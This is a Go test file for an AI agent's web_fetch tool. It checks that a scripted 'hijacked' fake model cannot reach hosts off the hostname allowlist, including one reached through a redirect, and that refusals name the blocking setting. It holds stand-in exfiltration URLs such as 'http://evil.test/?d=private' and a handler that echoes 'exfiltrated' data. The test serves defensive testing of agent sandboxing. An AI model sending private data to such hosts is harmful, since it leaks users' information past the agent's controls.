package web_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/talonclaw/talon/internal/agent"
	"github.com/talonclaw/talon/internal/config"
	"github.com/talonclaw/talon/internal/policy"
	"github.com/talonclaw/talon/internal/store"
	"github.com/talonclaw/talon/internal/testutil/fakellm"
	"github.com/talonclaw/talon/internal/testutil/fakenet"
	"github.com/talonclaw/talon/internal/tools/web"
)

// TestInvariant7_HijackedModelWebFetchStaysOnTheList: with
// tools.web.fetch.allowedHostnames set, a hijacked model (the scripted
// fake) asks web_fetch for an unlisted public host, an unlisted port of a
// listed host, and a listed page that redirects to the unlisted host. None
// of them reaches the unlisted servers; the model is told which setting
// refused them; the listed page is fetched.
func TestInvariant7_HijackedModelWebFetchStaysOnTheList(t *testing.T) {
	var evilHits, docsHits atomic.Int32
	evil := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		evilHits.Add(1)
		io.WriteString(w, "exfiltrated "+r.URL.RawQuery)
	})
	n := fakenet.New(t)
	n.Serve("evil.test", 80, evil)
	n.Serve("docs.test", 9090, evil)
	n.Serve("docs.test", 80, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		docsHits.Add(1)
		if r.URL.Path == "/go" {
			http.Redirect(w, r, "http://evil.test/?d=private", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/plain")
		io.WriteString(w, "the docs page")
	}))

	fake := fakellm.New(t)
	dir := t.TempDir()
	st, err := store.Open(context.Background(), filepath.Join(dir, "talon.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	cfg := config.Default()
	cfg.Models.Providers = map[string]config.Provider{"local": {API: "openai-completions", BaseURL: fake.URL,
		Models: []config.ModelDef{{ID: "m", ContextWindow: 128000, MaxTokens: 1024}}}}
	cfg.Agents.Defaults.Model = "local/m"
	cfg.Tools.Profile = "full"
	cfg.Tools.Web.Fetch.AllowedHostnames = []string{"docs.test"}
	conf := func() *config.Config { return cfg }
	ws := filepath.Join(dir, "workspace")
	if err := agent.EnsureWorkspace(ws); err != nil {
		t.Fatal(err)
	}
	reg := agent.NewRegistry()
	reg.Register(web.NewFetch(web.FetchOptions{Config: conf, Hooks: n.Hooks()}))
	a, err := agent.New(agent.Options{Config: conf, Store: st, Models: &agent.ConfigModels{}, Tools: reg, Workspace: ws,
		Policy: &policy.Rules{Config: conf}})
	if err != nil {
		t.Fatal(err)
	}

	urls := []string{"http://evil.test/?d=private", "http://docs.test:9090/", "http://docs.test/go", "http://docs.test/page"}
	var calls []fakellm.Call
	for i, u := range urls {
		calls = append(calls, fakellm.Call{ID: fmt.Sprintf("f%d", i), Name: "web_fetch", Args: `{"url":"` + u + `"}`})
	}
	fake.Script(fakellm.Reply{ToolCalls: calls}, fakellm.Reply{Text: "done"})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	res, err := a.Run(ctx, agent.TurnRequest{Trust: policy.TrustOwner, SessionKey: agent.MainSessionKey(""), Text: "fetch these"})
	if err != nil {
		t.Fatal(err)
	}
	if n := evilHits.Load(); n != 0 {
		t.Fatalf("unlisted servers were reached %d times", n)
	}
	if len(res.ToolCalls) != len(urls) {
		t.Fatalf("tool calls %+v", res.ToolCalls)
	}
	for i, tc := range res.ToolCalls {
		want := "error"
		if i == len(urls)-1 {
			want = "executed"
		}
		if tc.Outcome != want {
			t.Errorf("%s: outcome %s (%s), want %s", urls[i], tc.Outcome, tc.Reason, want)
		}
	}
	if docsHits.Load() != 2 { // /go (which redirects) and /page
		t.Fatalf("docs hits = %d, want 2", docsHits.Load())
	}
	// What the model saw: each refusal names the setting; the page came back.
	var toolText []string
	for _, m := range fake.Requests()[1].Messages {
		if m.Role == "tool" {
			toolText = append(toolText, m.Content)
		}
	}
	all := strings.Join(toolText, "\n")
	if strings.Count(all, "tools.web.fetch.allowedHostnames") != 3 || !strings.Contains(all, "the docs page") || strings.Contains(all, "exfiltrated") {
		t.Fatalf("tool results the model saw:\n%s", all)
	}
}
